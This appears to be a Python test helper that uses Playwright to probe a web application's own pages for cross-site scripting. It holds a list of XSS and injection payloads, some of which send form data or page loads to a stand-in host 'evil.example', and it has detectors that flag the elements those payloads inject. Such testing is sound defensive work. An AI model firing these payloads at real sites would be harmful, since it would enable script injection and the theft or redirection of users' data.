"""What has broken out of a field somewhere, and how a page shows that it did."""

from playwright.sync_api import Dialog, Page

#: What has broken out of a text, an attribute, an address, a script or a style somewhere.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>press</a>",
    "<form action=//evil.example><button>send</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "{{ 7*7 }}{% raw %}",
    "%(name)s %s {0} ${alert(1)}",
    "<!--><script>alert(1)</script>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "<details open ontoggle=alert(1)>",
)

#: These do harm at the beginning of a text alone.
_FIRST = ("javascript:", "data:")
#: As much as the name of an organisation may hold.
_ROOM = 118


def _together() -> list[str]:
    texts = [payload for payload in PAYLOADS if payload.startswith(_FIRST)]
    waiting = ""
    for payload in PAYLOADS:
        if payload in texts:
            continue
        if waiting and len(waiting) + 1 + len(payload) > _ROOM:
            texts.append(waiting)
            waiting = ""
        waiting = f"{waiting} {payload}".strip()
    return [*texts, waiting]


#: All of them, several in one text, as each page takes its time. What hides the rest of its text is noticed itself.
TOGETHER = _together()

_TELL_OF_BLOCKED = """
    document.addEventListener("securitypolicyviolation",
        event => console.error(`blocked by policy: ${event.violatedDirective} ${event.blockedURI}`))"""

_STRANGERS = """() => [...document.querySelectorAll("iframe, base, style, math, meta[http-equiv], [onerror], [onload],"
    + " [onfocus], [onmouseover], [ontoggle], [href^='javascript:' i], [href^='data:' i]"
    + ", script:not([src^='/static/']):not([type='application/ld+json']), form[action^='//']")].map(element => element.outerHTML)"""


def listen(page: Page) -> list[str]:
    """A list that fills with every dialog; what the policy blocks becomes an error that the visitor's window notes."""
    heard: list[str] = []

    def note(dialog: Dialog) -> None:
        if dialog.type == "beforeunload":  # our own question before typed words are left
            dialog.accept()
            return
        heard.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", note)
    page.add_init_script(_TELL_OF_BLOCKED)
    return heard


def strangers(page: Page) -> list[str]:
    """Elements on the page as it stands, all its parts opened, that no template of ours has."""
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
    return [f"{page.url}: {element}" for element in page.evaluate(_STRANGERS)]
